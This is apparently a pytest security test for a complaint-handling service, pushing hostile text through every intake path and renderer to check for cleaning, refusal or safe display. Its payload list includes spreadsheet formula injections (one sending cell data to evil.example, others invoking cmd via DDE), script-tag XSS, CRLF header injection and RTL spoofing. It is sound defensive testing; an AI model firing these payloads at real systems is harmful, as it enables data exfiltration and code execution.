"""Hostile text through every intake and every renderer: zero server errors, no live formula.

Formulas a spreadsheet would run, control characters, zero-width characters, the RTL
override, NUL, 10⁵ characters, a lone surrogate (as a JSON escape), emoji, combining marks,
markup and line-break injection go in through the API's single and bulk intake, an import
file (CSV and XLSX), the names and references, notes, dispatch instructions, a unit's result
and the reply. Intake either cleans them (nothing invisible or controlling is stored) or
refuses them with a 4xx problem that says why. Then every renderer reads them: the JSON
answers, the pages, the export (CSV, XLSX), and the three reports (HTML, XLSX, PDF) — all
flagged onto the daily report, which lists the complaints behind its flags.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from careloop.domain.errors import DomainError
from careloop.services.access.actors import actor_for
from careloop.services.complaints.intake_import import import_file
from careloop.services.unit_of_work import UnitOfWork
from careloop.store.database import make_engine, make_session_factory
from tests.integration.api.helpers import complaint_body
from tests.security.conftest import Stack
from tests.security.probes import text_of, web_client, where, xlsx_cells

DAY = "2026-09-28"
PAYLOADS: dict[str, str] = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "cmd": "+cmd|' /C calc'!A0",
    "at_sum": "@SUM(1)",
    "minus_cmd": "-2+3+cmd|' /C calc'!A0",
    "tab_formula": "\t=1+1",
    "control": "宽带\x01\x02\x07\x1b[31m断网\x08\x0b\x0c\x7f\x85",
    "zero_width": "宽\u200b带\u200c断\u200d网\u2060\ufeff",
    "rtl": "宽带断网 \u202etxt.exe\u202c",
    "nul": "宽带\x00断网",
    "long": "长" * 100_000,
    "emoji": "宽带断网😡👨‍👩‍👧‍👦🇨🇳",
    "combining": "Z̷̢̛a̸l̶g̵o̴ 宽带断网",
    "surrogate": "宽带\ud800断网",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "crlf": "宽带\r\n断网\rX-Injected: 1",
}
FORMULA_MARKS = ("HYPERLINK", "cmd|", "SUM(1)", "=1+1")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
INVISIBLE = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]"
)
"""What intake must not store: control characters (line feed and tab aside), zero-width
characters, bidirectional overrides and isolates."""
RAW_MARKUP = "<script>alert(1)"
SURROGATE = re.compile("[\ud800-\udfff]")


def _json(body: Any) -> bytes:
    """JSON with \\u escapes, so that a lone surrogate travels as the escape a client sends."""
    return json.dumps(body, ensure_ascii=True).encode("ascii")


@dataclass
class Accepted:
    complaints: list[int] = field(default_factory=list)
    numbers: list[str] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)
    work_orders: list[int] = field(default_factory=list)


def _judge(outcome: Accepted, label: str, response: Any) -> dict[str, Any] | None:
    """Not a 5xx; a 4xx is a problem that says what is wrong; a 2xx is returned."""
    if response.status_code >= 500:
        outcome.failures.append(f"{label}: {where(response)} {response.text[:300]}")
        return None
    if response.status_code >= 400:
        problem = response.json()
        if not problem.get("detail") or "Traceback" in response.text:
            outcome.failures.append(f"{label}: {where(response)} refused without a message")
        return None
    return response.json()  # type: ignore[no-any-return]


def _post(client: Any, path: str, body: Any, **headers: str) -> Any:
    return client.post(
        path, content=_json(body), headers={"Content-Type": "application/json", **headers}
    )


def _version(client: Any, cid: int) -> int:
    return int(client.get(f"/api/v1/complaints/{cid}").json()["version"])


def _single_intake(stack: Stack, outcome: Accepted) -> None:
    agent = stack.api.as_("agent1")
    for i, (name, text) in enumerate(PAYLOADS.items()):
        for label, body in (
            (f"description {name}", complaint_body(description=text)),
            (
                f"name and reference {name}",
                complaint_body(
                    customer={"phone": f"1360000{i:04d}", "name": text}, source_ref=text
                ),
            ),
        ):
            answer = _judge(outcome, label, _post(agent, "/api/v1/complaints", body))
            if answer is not None:
                outcome.complaints.append(answer["id"])
                outcome.numbers.append(answer["number"])


def _batch_intake(stack: Stack, outcome: Accepted) -> None:
    items = [
        complaint_body(
            description=text,
            customer={"phone": f"1350000{i:04d}", "name": text[:100]},
            idempotency_key=f"hostile-batch-{i}",
        )
        for i, text in enumerate(PAYLOADS.values())
    ]
    response = _post(stack.api.as_("agent1"), "/api/v1/complaints/batch", {"items": items})
    answer = _judge(outcome, "batch", response)
    if answer is None:
        outcome.failures.append(f"batch refused as a whole: {response.status_code}")
        return
    for item in answer["items"]:
        if item["result"] == "error":
            if not item["problem"]["message"]:
                outcome.failures.append(f"batch item {item['index']} refused without a message")
        else:
            outcome.complaints.append(item["complaint"]["id"])
            outcome.numbers.append(item["complaint"]["number"])


def _import_files(stack: Stack, outcome: Accepted, tmp: Path) -> None:
    header = ["key", "phone", "category", "region", "product", "description", "name"]
    rows = [
        [f"hostile-import-{i}", f"1340000{i:04d}", "broadband.outage", "C1-K1", "broadband",
         text, text[:100]]
        for i, text in enumerate(PAYLOADS.values())
    ]  # fmt: skip
    csv_path = tmp / "hostile.csv"
    with csv_path.open("w", newline="", encoding="utf-8-sig") as f:
        writer = csv.writer(f)
        writer.writerow(header)
        writer.writerows(r for r in rows if not SURROGATE.search("".join(r)))
    # A lone surrogate cannot be UTF-8: written as the bytes a broken exporter produces.
    bytes_path = tmp / "hostile-bytes.csv"
    with bytes_path.open("w", newline="", encoding="utf-8", errors="surrogatepass") as f:
        writer = csv.writer(f)
        writer.writerow(header)
        writer.writerows(r for r in rows if SURROGATE.search("".join(r)))
    xlsx_path = tmp / "hostile.xlsx"
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(header)
    for row in rows:
        # An XLSX cannot hold control characters or lone surrogates: those stay in the CSV.
        if not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", "".join(row)):
            sheet.append([f"x{row[0]}", *row[1:]])
    book.save(xlsx_path)
    engine = make_engine(stack.database_url)
    factory = make_session_factory(engine)
    try:
        with UnitOfWork(factory) as uow:
            actor = actor_for(uow, "agent1")
        for path in (csv_path, bytes_path, xlsx_path):
            try:
                results = import_file(lambda: UnitOfWork(factory), path, actor, stack.clock())
            except Exception as exc:  # a DomainError for a bad file is an answer, not a crash
                if not isinstance(exc, DomainError):
                    outcome.failures.append(f"import {path.name}: {type(exc).__name__}: {exc}")
                continue
            for row in results:
                if row.result.complaint is not None:
                    outcome.complaints.append(row.result.complaint.id)
                    outcome.numbers.append(row.result.complaint.number or "")
                elif row.result.error is None or not row.result.error.message("en"):
                    outcome.failures.append(f"import {path.name} row {row.row}: no message")
    finally:
        engine.dispose()


def _free_text_actions(stack: Stack, outcome: Accepted) -> None:
    """Notes, dispatch instructions, a unit's result and replies carry the payloads too."""
    agent, net = stack.api.as_("agent1"), stack.api.as_("net1")
    cid = outcome.complaints[0]
    for name, text in PAYLOADS.items():
        _judge(outcome, f"note {name}", _post(agent, f"/api/v1/complaints/{cid}/notes",
                                              {"text": text}))  # fmt: skip
    worked = []
    instructions = ("hyperlink", "control", "rtl", "long", "surrogate", "markup")
    for target, name in zip(outcome.complaints[1:], instructions, strict=False):
        text = PAYLOADS[name]
        order = None
        for given in (text, "上门处理"):  # refused text: the flow goes on with plain text
            body = {"version": _version(agent, target), "unit": "C1-K1-NET", "instructions": given}
            dispatch = _post(agent, f"/api/v1/complaints/{target}/dispatch", body)
            order = _judge(outcome, f"instructions {name}", dispatch)
            if order is not None:
                break
        if order is None:
            continue
        outcome.work_orders.append(order["id"])
        path = f"/api/v1/work-orders/{order['id']}"
        order = _judge(outcome, "accept", _post(net, f"{path}/accept",
                                                {"version": order["version"]}))  # fmt: skip
        if order is None:
            continue
        for given in (text, "已修复"):
            body = {"version": order["version"], "result": given}
            if _judge(outcome, f"result {name}", _post(net, f"{path}/complete", body)):
                break
        worked.append(target)
    assert len(worked) >= 3, outcome.failures
    for target, name in zip(worked, ("cmd", "zero_width", "nul", "emoji"), strict=False):
        body = {"version": _version(agent, target), "text": PAYLOADS[name]}
        _judge(outcome, f"reply {name}", _post(agent, f"/api/v1/complaints/{target}/reply", body))


@pytest.fixture(scope="module")
def hostile(stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> Accepted:
    outcome = Accepted()
    _single_intake(stack, outcome)
    _batch_intake(stack, outcome)
    _import_files(stack, outcome, tmp_path_factory.mktemp("import"))
    assert len(outcome.complaints) >= 10, outcome
    _free_text_actions(stack, outcome)
    return outcome


def test_intake_cleans_or_refuses_hostile_text_and_never_fails(stack: Stack, hostile: Accepted):
    assert not hostile.failures, "\n".join(hostile.failures)
    agent = stack.api.as_("agent1")
    stored: list[str] = []
    for cid in hostile.complaints:
        found = agent.get(f"/api/v1/complaints/{cid}").json()
        texts = [found["description"], found["customer"]["name"] or "", found["source_ref"] or ""]
        texts += [found["reply_text"] or ""]
        texts += [(o["instructions"] or "") + (o["result"] or "") for o in found["work_orders"]]
        notes = agent.get(f"/api/v1/complaints/{cid}/notes").json()
        texts += [n["text"] for n in notes]
        for text in texts:
            if INVISIBLE.search(text):
                stored.append(f"complaint {cid} stored {text[:80]!r}")
    assert not stored, "\n".join(stored)


def _xlsx_problems(label: str, content: bytes) -> list[str]:
    found = []
    for cell in xlsx_cells(content):
        value = cell.value
        if cell.data_type == "f" or (isinstance(value, str) and value.startswith("=")):
            found.append(f"{label}: live formula in {cell.coordinate}: {value!r:.80}")
        elif (
            isinstance(value, str)
            and any(m in value for m in FORMULA_MARKS)
            and value.startswith(FORMULA_START)
        ):
            found.append(f"{label}: formula-like cell {cell.coordinate}: {value!r:.80}")
    return found


def _csv_problems(label: str, content: bytes) -> list[str]:
    found = []
    text = content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            if any(m in value for m in FORMULA_MARKS) and value.startswith(FORMULA_START):
                found.append(f"{label}: formula-like cell {value!r:.80}")
    return found


def test_every_renderer_shows_hostile_text_without_error_or_live_formula(
    stack: Stack, hostile: Accepted
):
    failures: list[str] = []
    reads: list[tuple[str, Any, str, dict[str, Any]]] = []
    for username in ("agent1", "super1"):  # a masked and an unmasked export, list and page
        client = stack.api.as_(username)
        reads += [(username, client, "/api/v1/complaints", {"limit": 200})]
        for fmt in ("csv", "xlsx"):
            reads.append((username, client, "/api/v1/complaints/export", {"format": fmt}))
    agent = stack.api.as_("agent1")
    for cid in hostile.complaints:
        for tail in ("", "/events"):
            reads.append(("agent1", agent, f"/api/v1/complaints/{cid}{tail}", {}))
    reads.append(("agent1", agent, f"/api/v1/complaints/{hostile.complaints[0]}/notes", {}))
    for wid in hostile.work_orders:
        reads.append(("agent1", agent, f"/api/v1/work-orders/{wid}", {}))
    super1 = stack.api.as_("super1")
    for kind in ("daily", "weekly", "tenday", "monthly"):
        for fmt in ("html", "xlsx", "pdf"):
            reads.append(
                ("super1", super1, f"/api/v1/reports/{kind}", {"date": DAY, "format": fmt})
            )
    # The inspector reads everything masked: the masking of hostile text renders too.
    inspector = stack.api.as_("inspector")
    reads.append(("inspector", inspector, "/api/v1/complaints", {"limit": 200}))
    for fmt in ("html", "xlsx"):
        reads.append(
            ("inspector", inspector, "/api/v1/reports/daily", {"date": DAY, "format": fmt})
        )
    pages = {
        "agent1": ["/agent/queue", "/complaints", "/complaints?open=1"],
        "net1": ["/unit/queue"],
        "super1": ["/supervisor", "/complaints?sla=running"],
        "inspector": ["/supervisor", "/complaints"],
    }
    pages["agent1"] += [f"/complaints/{cid}" for cid in hostile.complaints]
    pages["inspector"] += [f"/complaints/{cid}" for cid in hostile.complaints]
    for username, paths in pages.items():
        browser = web_client(stack.api, username)
        reads += [(username, browser, path, {}) for path in paths]
    numbers_in_daily = 0
    hostile_numbers = [n for n in hostile.numbers if n]
    for username, client, path, params in reads:
        response = client.get(path, params=params)
        label = f"{username} {where(response)}"
        if response.status_code != 200:
            failures.append(f"{label}: {response.text[:300]}")
            continue
        media = response.headers.get("content-type", "")
        if "spreadsheetml" in media:
            failures += _xlsx_problems(label, response.content)
        elif "csv" in media:
            failures += _csv_problems(label, response.content)
        text = text_of(response)
        if "Traceback" in text:
            failures.append(f"{label}: a stack trace")
        if "html" in media and RAW_MARKUP in text:
            failures.append(f"{label}: markup from a complaint rendered as markup")
        if path.endswith("/daily"):
            numbers_in_daily += any(n in text for n in hostile_numbers)
    assert not failures, "\n".join(failures)
    # Not vacuous: each rendering of the daily report lists hostile complaints behind a flag.
    assert numbers_in_daily == 5, "the daily report lists no hostile complaint"
